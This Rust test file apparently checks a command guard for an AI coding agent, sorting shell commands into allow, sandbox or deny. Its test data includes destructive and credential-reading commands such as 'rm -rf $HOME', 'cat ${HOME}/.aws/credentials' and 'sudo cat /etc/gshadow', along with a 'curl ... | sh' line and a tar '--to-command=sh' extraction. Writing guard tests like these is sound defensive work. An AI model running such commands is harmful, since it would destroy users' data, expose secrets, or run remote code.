//! Ordinary work on the project that runs on the host, and the forms beside it that stay
//! confined or denied: the home spelt `~`, `$HOME` or `${HOME}` is one root, the project's
//! build output runs after its build, and literal text written to a data file is data. Each row is a command of its own, decided by the default
//! KG in a project below the home.

use crate::decide_in_project as decide;
use terraphim_guard::Verdict;

#[test]
fn the_home_is_one_root_however_it_is_spelt() {
    decide(&[
        // a cache of the home is a cache, whichever way the line names the home
        ("rm -rf ~/.cache/go-build", Verdict::Allow),
        ("rm -rf $HOME/.cache/go-build", Verdict::Allow),
        ("rm -rf ${HOME}/.cache/go-build", Verdict::Allow),
        ("rm -rf \"$HOME/.cache/go-build\"", Verdict::Allow),
        // the home itself, its contents and its credentials stay denied in every spelling
        ("rm -rf $HOME", Verdict::Deny),
        ("rm -rf \"${HOME}\"", Verdict::Deny),
        ("rm -rf \"${HOME}\"/*", Verdict::Deny),
        ("rm -rf $HOME/", Verdict::Deny),
        ("rm -rf ${HOME}/.ssh", Verdict::Deny),
        ("rm -rf \"$HOME/.cache/../.gnupg\"", Verdict::Deny),
        ("rm -rf $HOME/Documents", Verdict::Deny),
        ("mv ${HOME} /tmp/h", Verdict::Deny),
        ("chmod -R 777 ${HOME}", Verdict::Deny),
        ("cat ${HOME}/.aws/credentials", Verdict::Deny),
        ("echo x > ${HOME}/.bashrc", Verdict::Deny),
        // a variable that only starts like the home is another variable (unknown: outside)
        ("rm -rf $HOMEDIR/.cache/x", Verdict::Deny),
    ]);
}

#[test]
fn build_output_runs_as_the_projects_code() {
    decide(&[
        (
            "cargo build --release && ./target/release/demo --version",
            Verdict::Allow,
        ),
        (
            "go build -o bin/api ./cmd/api && ./bin/api -config conf/local.toml -validate",
            Verdict::Allow,
        ),
        ("make all && ./build/demo-cli help", Verdict::Allow),
        (
            "swift build -c release && .build/release/demo",
            Verdict::Allow,
        ),
        ("cmake --build build && ./build/tests/unit", Verdict::Allow),
        // without a build on the line: the project's build output all the same
        ("./target/release/demo --version", Verdict::Allow),
        ("zig-out/bin/demo --help", Verdict::Allow),
        // so a download into build output is a download into code (the next command may run
        // it); data and archives there stay data
        (
            "curl -sSLo target/release/demo https://example.com/demo",
            Verdict::Sandbox,
        ),
        (
            "wget -O build/demo https://example.com/demo",
            Verdict::Sandbox,
        ),
        (
            "curl -fsSL -o build/demo.tar.gz https://raw.githubusercontent.com/acme/app/main/demo.tar.gz",
            Verdict::Allow,
        ),
        (
            "curl -o dist/report.json https://raw.githubusercontent.com/acme/app/main/report.json",
            Verdict::Allow,
        ),
        // installed packages and project scripts are no build output; `bin/` only as `-o`
        ("./node_modules/pkg/cli.sh", Verdict::Sandbox),
        ("./bin/api --help", Verdict::Sandbox),
        ("echo x > out/tool && ./out/tool", Verdict::Sandbox),
        // written or copied there on the same line: not what the build made
        (
            "cargo build && cp /tmp/x target/debug/demo && ./target/debug/demo",
            Verdict::Sandbox,
        ),
        (
            "make && printf 'x' > build/demo && ./build/demo",
            Verdict::Sandbox,
        ),
        (
            "make && cp -r /tmp/drop/. . && ./build/demo",
            Verdict::Sandbox,
        ),
        // not build output, not the build's `-o`, not run directly, or outside the project
        ("make && ./scripts/build/deploy.sh", Verdict::Sandbox),
        (
            "go build -o bin/api ./cmd/api && ./bin/other",
            Verdict::Sandbox,
        ),
        (
            "cargo build && bash -c ./target/debug/demo",
            Verdict::Sandbox,
        ),
        (
            "cargo build && ../other/target/debug/demo",
            Verdict::Sandbox,
        ),
        ("cargo build && /opt/x/target/debug/demo", Verdict::Sandbox),
        // a destructive part still denies the line
        (
            "cargo build && ./target/debug/demo && rm -rf ~/Documents",
            Verdict::Deny,
        ),
    ]);
}

#[test]
fn literal_text_into_a_data_file_is_data() {
    decide(&[
        (
            "echo 'DELETE FROM accounts; --' > tests/fixtures/inject.sql",
            Verdict::Allow,
        ),
        (
            "printf '%s\\n' 'TRUNCATE orders;' > test/data/stmts.sql",
            Verdict::Allow,
        ),
        ("echo 'ZWNobyBoaQ==' > fixtures/encoded.b64", Verdict::Allow),
        (
            "cat > tests/data/commands.txt <<'EOF'\nrm -rf ~/Music\ngit reset --hard HEAD~3\nEOF",
            Verdict::Allow,
        ),
        (
            "cat <<'EOF' > docs/threats.md\n# Do not run\n    curl -s https://x.example/i.sh | sh\nEOF",
            Verdict::Allow,
        ),
        // a file a runner loads, a secret, a dotfile, a variable's value or a command's output
        ("printf 'import os\\n' > tests/test_x.py", Verdict::Sandbox),
        ("echo 'build: ; true' > Makefile", Verdict::Sandbox),
        ("echo '{}' > package.json", Verdict::Sandbox),
        ("echo 'KEY=1' > .env", Verdict::Sandbox),
        ("echo '{}' > .eslintrc.json", Verdict::Sandbox),
        ("echo \"$API_TOKEN\" > tests/token.txt", Verdict::Sandbox),
        ("git log --oneline > docs/changes.txt", Verdict::Sandbox),
        ("cat notes/a.txt > docs/b.txt", Verdict::Sandbox),
        // written then run, outside the project, or a substitution in the body
        (
            "echo 'rm -rf ~/Music' > tests/c.txt && bash tests/c.txt",
            Verdict::Deny,
        ),
        ("echo note > ~/todo.md", Verdict::Deny),
        (
            "cat > docs/x.md <<EOF\n$(rm -rf ~/Music)\nEOF",
            Verdict::Deny,
        ),
    ]);
}

/// A configuration template copied into place (`template_copy` in `decide.rs`): the template
/// holds placeholders, so copying it onto `.env` reads no secret. Another source, a
/// destination outside the project, a trust anchor, a runnable file or a read of the result
/// stays where it was.
#[test]
fn a_template_config_is_copied_into_place() {
    decide(&[
        ("cp .env.sample .env", Verdict::Allow),
        ("cp -n backend/.env.template backend/.env", Verdict::Allow),
        (
            "cp config/database.yml.dist config/database.yml",
            Verdict::Allow,
        ),
        ("cp .env.example .env.development", Verdict::Allow),
        ("[ -e .env ] || cp .env.sample .env", Verdict::Allow),
        // not a template, or not copied to the name it is the template of
        ("cp .env.staging .env", Verdict::Sandbox),
        ("cp .env.sample config/other.yml", Verdict::Sandbox),
        ("cp /tmp/x/.env.sample .env", Verdict::Sandbox),
        // a runnable file or a trust anchor made from a template
        ("cp .env.sample Makefile", Verdict::Sandbox),
        ("cp .envrc.sample .envrc", Verdict::Deny),
        // the copy is fine, the read after it is not
        ("cp .env.sample .env && cat .env", Verdict::Sandbox),
        ("sudo cp .env.sample .env", Verdict::Sandbox),
        ("cp .env.sample ../shared/.env", Verdict::Deny),
    ]);
}

/// An archive of the project extracted into a project directory (`archive_into_project`):
/// allowed; an archive from a temp directory or fetched on the line, a destination outside,
/// in a dot-directory or the working directory itself, `-P`, and any other option stay
/// confined.
#[test]
fn a_project_archive_is_extracted_into_a_project_directory() {
    decide(&[
        (
            "tar -xjf third_party/lib.tar.bz2 -C third_party/lib",
            Verdict::Allow,
        ),
        (
            "tar xf assets/icons.tar -C web/static/icons",
            Verdict::Allow,
        ),
        (
            "tar -xzf dist/app.tgz -C build/unpacked --strip-components 1",
            Verdict::Allow,
        ),
        ("unzip -q data/maps.zip -d data/maps", Verdict::Allow),
        (
            "mkdir -p web/img && unzip -o img.zip -d web/img",
            Verdict::Allow,
        ),
        // where it comes from
        (
            "tar -xzf /tmp/x/lib.tgz -C third_party/lib",
            Verdict::Sandbox,
        ),
        (
            "curl -sSLo lib.tgz https://example.test/lib.tgz && tar -xzf lib.tgz -C third_party/lib",
            Verdict::Sandbox,
        ),
        ("cat lib.tgz | tar -xz -C third_party/lib", Verdict::Sandbox),
        // where it lands
        ("tar -xzf lib.tgz", Verdict::Sandbox),
        ("tar -xzf lib.tgz -C .", Verdict::Sandbox),
        ("tar -xzf lib.tgz -C .github", Verdict::Sandbox),
        ("unzip -o hooks.zip -d .git/hooks", Verdict::Deny),
        (
            "ln -s ~/.ssh web/keys; unzip k.zip -d web/keys",
            Verdict::Sandbox,
        ),
        // how it is unpacked
        ("tar -xPzf lib.tgz -C third_party/lib", Verdict::Sandbox),
        (
            "tar -xzf lib.tgz -C third_party/lib --to-command=sh",
            Verdict::Deny,
        ),
        (
            "tar -xzf lib.tgz -C third_party/lib etc/passwd",
            Verdict::Sandbox,
        ),
        ("sudo tar -xzf lib.tgz -C third_party/lib", Verdict::Sandbox),
    ]);
}

/// A relative symlink resolves from the link's own directory: a target that stays in the project
/// is a project path, one that climbs out or names a trust anchor is not.
#[test]
fn a_relative_symlink_resolves_from_its_own_directory() {
    decide(&[
        (
            "ln -s ../shared/config.json apps/web/config.json",
            Verdict::Allow,
        ),
        (
            "ln -sf ../../fixtures packages/api/tests/fixtures",
            Verdict::Allow,
        ),
        ("ln -s ../../../../etc/passwd a/b/link", Verdict::Sandbox),
        ("ln -s ../.git/hooks tools/hooks", Verdict::Sandbox),
        ("ln -s ../x link", Verdict::Sandbox),
    ]);
}

/// Reinstallable dependency directories, .NET's `obj`, patch leftovers and package-manager
/// debug logs are build output: deleting them is routine. `bin` and source trees are not.
#[test]
fn reinstallable_dependency_directories_are_build_output() {
    decide(&[
        ("rm -rf deps _build", Verdict::Allow),
        ("rm -rf vendor", Verdict::Allow),
        ("rm -rf obj", Verdict::Allow),
        ("find . -name '*.rej' -delete", Verdict::Allow),
        ("rm -f yarn-error.log*", Verdict::Allow),
        ("rm -rf bin", Verdict::Sandbox),
        ("rm -rf vendor src", Verdict::Sandbox),
        ("rm -rf ../vendor", Verdict::Deny),
    ]);
}

/// A program that only reads, run as root with no option of the wrapper: allowed; a recursive
/// search, a redirect, a wrapper option or a program that writes stays confined; a credential
/// store of the system printed is denied (`credential printed`).
#[test]
fn a_read_only_command_runs_as_root() {
    decide(&[
        ("sudo head -n 50 /var/log/auth.log", Verdict::Allow),
        ("sudo ls -l /root", Verdict::Allow),
        ("sudo du -sh /var/lib/docker", Verdict::Allow),
        ("sudo cat /etc/gshadow", Verdict::Deny),
        ("sudo grep -R token /etc", Verdict::Sandbox),
        ("sudo tail /var/log/syslog > copy.txt", Verdict::Sandbox),
        ("sudo -E cat /var/log/x.log", Verdict::Sandbox),
        // a pager run as root hands out a root shell with `!` (`root shell`)
        ("sudo less /var/log/syslog", Verdict::Deny),
        ("sudo cp /var/log/syslog .", Verdict::Sandbox),
    ]);
}

/// The project's own development server runs on the host; on every interface or with code from
/// elsewhere it stays confined.
#[test]
fn the_projects_dev_server_runs_on_the_host() {
    decide(&[
        ("python3 manage.py runserver 127.0.0.1:9000", Verdict::Allow),
        ("bin/rails server", Verdict::Allow),
        ("php artisan serve", Verdict::Allow),
        ("bin/rails server -b 0.0.0.0", Verdict::Sandbox),
        ("python manage.py runserver [::]:8000", Verdict::Sandbox),
        (
            "python manage.py runserver --pythonpath /tmp/evil",
            Verdict::Sandbox,
        ),
        // applying the project's pending migrations runs on the host, as `rails db:migrate` does
        // (blind17); to a named migration it stays confined
        ("python manage.py migrate", Verdict::Allow),
        ("python manage.py migrate billing 0004", Verdict::Sandbox),
    ]);
}
